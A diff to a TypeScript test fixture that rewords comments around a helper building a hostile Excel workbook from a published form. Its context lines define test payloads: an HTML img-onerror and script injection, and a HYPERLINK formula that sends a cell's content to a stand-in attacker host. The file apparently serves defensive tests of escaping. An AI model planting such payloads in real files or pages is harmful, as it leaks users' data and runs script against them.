@@ -1,7 +1,7 @@
 import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
 import { fixture } from '../../xlsx/support';
 
-/** Texts that do harm where they are taken for markup, a formula, a link or a property. */
+/** Texts that do harm if they are used as markup, a formula, a link or a property. */
 export const HOSTILE = {
   markup: '<img src="https://evil.example/x" onerror="window.hit=1"><script>window.hit=1</script>',
   link: '=HYPERLINK("https://evil.example/?"&A1,"点这里")',
@@ -17,8 +17,8 @@ const escapeXml = (text: string): string =>
   text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
 
 /**
- * The published form jiayuguan-2021 with its known faults, whose texts in the places that findings quote (unit,
- * indicator names, actual value, title) are hostile, and whose sheets are called like properties.
+ * The published form jiayuguan-2021 with its known faults, whose texts in the places that findings quote
+ * (unit, indicator names, actual value, title) are hostile, and whose sheets have names of properties.
  */
 export function hostileWorkbook(): Uint8Array {
   const parts = unzipSync(fixture('jiayuguan-2021.xlsx'));
